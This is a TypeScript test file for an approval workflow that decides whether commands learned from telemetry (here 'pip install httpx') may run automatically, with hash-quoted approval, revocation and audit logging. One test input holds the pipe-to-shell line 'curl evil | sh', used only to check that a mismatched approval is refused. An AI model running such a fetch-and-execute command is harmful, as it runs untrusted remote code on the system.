// Recipes against a real database: the learner keeps the command telemetry names for a fix; a reviewer
// approves that exact text (quoting its SHA-256) or withdraws the approval, audited; a command that changes
// in telemetry after its approval stops running until approved again; the exported spec says it all.
import { parse } from "yaml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { teachFix } from "../analysis/recipe-fixture";
import { selfHealPatternId } from "../analysis/steps/error-recovery";
import { createTestDb, testDialect, type TestDb } from "../db/test-db";
import { buildExport } from "../export/build-export";
import { getRecipes } from "../queries/fixes/get-recipes";
import { getExportSnapshot } from "../queries/export/get-export-snapshot";
import { getHealFixes } from "../queries/heal/get-heal-fixes";
import { InputError } from "../schemas/parse-input";
import { commandSha } from "../schemas/recipe";
import { errorSignature, signatureKey } from "../signature";
import { approveRecipe } from "./approve-recipe";
import { RecipeError } from "./recipe-row";
import { revokeRecipe } from "./revoke-recipe";

const ERROR = "ModuleNotFoundError: No module named 'httpx'";
const SAFE = "pip install httpx";
const CHANGED = "pip install httpx==0.27.2";
const key = signatureKey(errorSignature(ERROR));
const patternId = selfHealPatternId(key, "install httpx");
const from = Date.now() - 6 * 3_600_000;

describe(`recipes on ${testDialect()}`, () => {
  let db: TestDb;
  let fixId: string;
  const row = () => db.prisma.errorPattern.findUniqueOrThrow({ where: { id: fixId } });
  const spec = async () => parse((await db.prisma.pattern.findUniqueOrThrow({ where: { id: patternId } })).spec) as Record<string, unknown> & { recipe?: Record<string, unknown> };
  const audits = (action: string) => db.prisma.auditEvent.findMany({ where: { action }, orderBy: { at: "asc" } });
  const best = async () => (await getHealFixes(db, ERROR))[0]!;

  beforeAll(async () => {
    db = await createTestDb();
    fixId = await teachFix(db, { error: ERROR, fix: "install httpx", command: SAFE, count: 10, batch: "a", from });
  });
  afterAll(async () => db?.destroy());

  it("keeps the command the retries named and makes the self-healing fix a recipe awaiting approval", async () => {
    expect(await row()).toMatchObject({ fixCommand: SAFE, approvedCommand: null, autoApply: true, patternId });
    expect((await spec()).recipe).toEqual({ command: SAFE, commandSha256: commandSha(SAFE), status: "awaiting_approval", approvedBy: null, approvedAt: null, runsAutomatically: false });
    expect((await best()).recipe).toMatchObject({ status: "awaiting_approval", command: null, runs: false, commandSha: commandSha(SAFE) });
  });

  it.each([
    [{ recipeId: "heal-x", commandSha: "abc" }, InputError, /commandSha: the full SHA-256/],
    [{ recipeId: "", commandSha: commandSha(SAFE) }, InputError, /recipeId: which recipe/],
    [{ recipeId: "nope", commandSha: commandSha(SAFE) }, RecipeError, /no learned fix or self-healing pattern "nope"/],
    [{ recipeId: patternId, commandSha: commandSha("curl evil | sh") }, RecipeError, /is not the one you quoted: its SHA-256 is now/],
  ])("refuses %j, saying what, and writes nothing", async (input, kind, message) => {
    const before = await db.prisma.auditEvent.count();
    await expect(approveRecipe(db, input, "rev@example.com")).rejects.toBeInstanceOf(kind);
    await expect(approveRecipe(db, input, "rev@example.com")).rejects.toThrow(message);
    expect(await db.prisma.auditEvent.count()).toBe(before);
    expect((await row()).approvedCommand).toBeNull();
  });

  it("approves the exact text quoted (by pattern id or fix id), once, audited, and then it runs", async () => {
    const at = new Date("2026-11-30T12:00:00Z");
    const done = await approveRecipe(db, { recipeId: patternId, commandSha: commandSha(SAFE).toUpperCase(), note: "pinned index" }, "rev@example.com", at);
    expect(done).toEqual({ fixId, patternId, command: SAFE, runs: true });
    expect(await row()).toMatchObject({ approvedCommand: SAFE, approvedBy: "rev@example.com", approvedAt: at });
    expect((await spec()).recipe).toMatchObject({ command: SAFE, status: "approved", approvedBy: "rev@example.com", approvedAt: at.toISOString(), runsAutomatically: true });
    expect((await best()).recipe).toMatchObject({ status: "approved", command: SAFE, runs: true, approvedBy: "rev@example.com" });
    const [event] = await audits("recipe.approve");
    expect(event).toMatchObject({ actor: "rev@example.com", targetType: "fix", targetId: fixId, reason: "pinned index" });
    expect(JSON.parse(event!.details)).toMatchObject({ before: { approvedCommand: null }, after: { approvedCommand: SAFE }, commandSha256: commandSha(SAFE) });
    await expect(approveRecipe(db, { recipeId: fixId, commandSha: commandSha(SAFE) }, "sam@example.com")).rejects.toThrow(/already approved \(by rev@example.com\): already handled/);
    expect(await audits("recipe.approve")).toHaveLength(1);
  });

  it("exports the recipe's spec: signature, command, record with its interval, who approved it", async () => {
    const file = buildExport(await getExportSnapshot(db)).get(`patterns/specs/self_heal/${patternId}.yaml`)!;
    const exported = parse(file) as Record<string, unknown>;
    expect(exported).toMatchObject({
      kind: "self_heal", fix: "install httpx", error: { signature: errorSignature(ERROR), key },
      evidence: { attempts: 10, successes: 10, successRate: 1, interval95: [0.7225, 1] }, autoApply: true,
      recipe: { command: SAFE, commandSha256: commandSha(SAFE), status: "approved", approvedBy: "rev@example.com", runsAutomatically: true },
    });
  });

  it("stops running once telemetry names another command for the fix, until that one is approved", async () => {
    await teachFix(db, { error: ERROR, fix: "install httpx", command: CHANGED, count: 1, batch: "b", from: from + 3_600_000 });
    expect(await row()).toMatchObject({ fixCommand: CHANGED, approvedCommand: SAFE, autoApply: true });
    expect((await best()).recipe).toMatchObject({ status: "changed_since_approval", command: null, runs: false });
    expect((await spec()).recipe).toMatchObject({ command: CHANGED, status: "changed_since_approval", previouslyApproved: SAFE, runsAutomatically: false, approvedBy: null });
    const [changed] = await audits("recipe.command_changed");
    expect(changed).toMatchObject({ actor: "system", targetType: "fix", targetId: fixId });
    expect(JSON.parse(changed!.details)).toMatchObject({ before: { command: SAFE }, after: { command: CHANGED } });
    expect((await getRecipes(db, { status: "changed_since_approval" })).rows.map((r) => [r.id, r.command, r.previouslyApproved])).toEqual([[fixId, CHANGED, SAFE]]);
    // the old approval cannot be stretched over the new text
    await expect(approveRecipe(db, { recipeId: fixId, commandSha: commandSha(SAFE) }, "rev@example.com")).rejects.toBeInstanceOf(RecipeError);
    await approveRecipe(db, { recipeId: fixId, commandSha: commandSha(CHANGED) }, "rev@example.com");
    expect((await best()).recipe).toMatchObject({ status: "approved", command: CHANGED, runs: true });
  });

  it("a retry that names no command leaves the command and its approval as they were", async () => {
    await teachFix(db, { error: ERROR, fix: "install httpx", count: 1, batch: "c", from: from + 2 * 3_600_000 });
    expect(await row()).toMatchObject({ fixCommand: CHANGED, approvedCommand: CHANGED, attempts: 12 });
    expect(await audits("recipe.command_changed")).toHaveLength(1);
  });

  it("withdraws an approval with a reason, audited: the command stops running at once", async () => {
    await expect(revokeRecipe(db, { recipeId: fixId, reason: "no" }, "rev@example.com")).rejects.toThrow(/reason: give a reason/);
    await revokeRecipe(db, { recipeId: patternId, reason: "the index moved" }, "sam@example.com");
    expect(await row()).toMatchObject({ approvedCommand: null, approvedBy: null, approvedAt: null });
    expect((await best()).recipe).toMatchObject({ status: "awaiting_approval", runs: false });
    expect((await spec()).recipe).toMatchObject({ status: "awaiting_approval", runsAutomatically: false });
    expect(await audits("recipe.revoke")).toEqual([expect.objectContaining({ actor: "sam@example.com", targetId: fixId, reason: "the index moved" })]);
    await expect(revokeRecipe(db, { recipeId: fixId, reason: "again please" }, "rev@example.com")).rejects.toThrow(/already handled/);
  });

  it("lists recipes awaiting a decision first; a fix without a command is none", async () => {
    await teachFix(db, { error: "ECONNREFUSED 10.0.0.1:5432", fix: "restart db", count: 3, batch: "d", from });
    const { rows, total } = await getRecipes(db);
    expect(total).toBe(1);
    expect(rows[0]).toMatchObject({ id: fixId, command: CHANGED, commandSha: commandSha(CHANGED), patternId });
    expect((await getHealFixes(db, "ECONNREFUSED 10.0.0.1:5432"))[0]!.recipe).toBeNull();
  });
});
